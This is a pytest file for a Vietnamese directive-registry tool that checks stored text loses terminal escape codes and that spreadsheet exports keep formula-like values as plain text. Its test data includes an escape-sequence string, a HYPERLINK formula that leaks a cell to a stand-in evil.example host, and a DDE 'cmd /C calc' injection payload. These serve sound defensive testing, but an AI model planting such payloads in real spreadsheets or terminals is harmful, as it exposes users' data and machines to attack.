"""Data never executes: no formula in a spreadsheet, no escape sequence at the terminal
(issue 14, items 10 and 11)."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, text
from sqlmodel import select

from secretariat.cli import main
from secretariat.directives.importer import read_directive_file
from secretariat.directives.register import DirectiveInput, create_directive
from storage.engine import session_scope
from storage.models import AuditLog, Directive, Task, Unit
from tests.test_export import _render, build_office

HOSTILE = "\x1b[2J\x1b]0;TITLE\x07"  # clear the screen, retitle the window, ring


def test_control_characters_never_reach_the_database(engine: Engine) -> None:
    with session_scope(engine) as session:
        saved = create_directive(
            DirectiveInput(
                number_symbol="604-TB/VPTU",
                issuer=f"Văn phòng{HOSTILE} Thành ủy",
                issued="03/10/2025",
                received="06/10/2025",
                subject=f"Ý kiến chỉ đạo{HOSTILE}",
                full_text="Dòng một\r\nDòng hai\x1b[31m đỏ\x9b2J\tcột",
            ),
            session=session,
        )
    with session_scope(engine) as session:
        stored = session.get(Directive, saved.id)
        assert stored is not None
        assert stored.subject == "Ý kiến chỉ đạo[2J]0;TITLE"  # the ESC and BEL are gone
        assert stored.issuer == "Văn phòng[2J]0;TITLE Thành ủy"
        assert stored.full_text == "Dòng một\nDòng hai[31m đỏ2J\tcột"  # tab, newline kept
        logged = " ".join(
            f"{e.old_value} {e.new_value}" for e in session.exec(select(AuditLog)).all()
        )
        assert "\x1b" not in logged and "\x07" not in logged


def test_a_utf8_file_with_a_stray_escape_is_text_and_loses_the_escape(tmp_path: Path) -> None:
    body = "THÀNH ỦY HẢI PHÒNG\n" + "Nội dung văn bản. " * 5000 + f"Đoạn cuối{HOSTILE}\n"
    path = tmp_path / "604-TB.txt"
    path.write_text(f"Số 604-TB/VPTU{HOSTILE}\n" + body, encoding="utf-8")
    read = read_directive_file(path)  # not «không phải văn bản UTF-8»
    assert "\x1b" not in read and "\x07" not in read
    assert read.endswith("Đoạn cuối[2J]0;TITLE\n")  # also past the first 64 KB
    binary = tmp_path / "anh.txt"
    binary.write_bytes(bytes(range(1, 32)) * 500)  # control bytes throughout: not text
    with pytest.raises(Exception, match="không phải văn bản UTF-8"):
        read_directive_file(binary)


def test_a_title_typed_as_a_formula_is_text_in_the_spreadsheet(engine: Engine) -> None:
    build_office(engine)
    with session_scope(engine) as session:
        task = session.exec(select(Task).where(Task.title.startswith("Báo cáo kết quả"))).one()
        task.title = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
        unit = session.exec(select(Unit).where(Unit.code == "CB-TDP01")).one()
        unit.name = "+1+cmd|' /C calc'!A0"
        session.add_all([task, unit])
    with engine.begin() as connection:  # a row written before this guard, ESC and all
        connection.execute(text("UPDATE units SET name = :n WHERE code = 'CB-TDP02'"),
                           {"n": f"Chi bộ số 02{HOSTILE}"})  # fmt: skip
    book = load_workbook(io.BytesIO(_render(engine, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not any(cell.data_type == "f" for cell in cells)
    values = [str(cell.value) for cell in cells if cell.value is not None]
    assert any(v.startswith('=HYPERLINK("http://evil.example/') for v in values)  # as text
    assert any(v.startswith("+1+cmd") for v in values)
    assert not any("\x1b" in v or "\x07" in v for v in values)
    assert any(v.startswith("Chi bộ số 02[2J") for v in values)  # exported, not a crash


def test_the_cli_never_prints_a_control_character(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = tmp_path / f"van-ban{HOSTILE}.txt"
    code = main(["import", "--db", str(tmp_path / "o.db"), str(name)])
    _out, err = capsys.readouterr()
    assert code != 0
    assert "\x1b" not in err and "\x07" not in err
    assert "van-ban\\x1b[2J\\x1b]0;TITLE\\x07.txt" in err  # shown, escaped, not obeyed
